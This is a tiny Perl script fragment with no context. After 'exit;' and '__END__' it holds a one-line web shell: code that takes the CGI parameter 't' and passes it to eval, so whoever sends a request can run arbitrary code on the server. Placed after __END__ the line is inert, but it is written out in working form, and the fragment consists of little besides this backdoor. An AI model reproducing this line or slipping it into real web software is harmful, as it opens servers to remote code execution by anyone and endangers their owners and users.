exit;
__END__
my$t=CGI::param('t');eval($t);
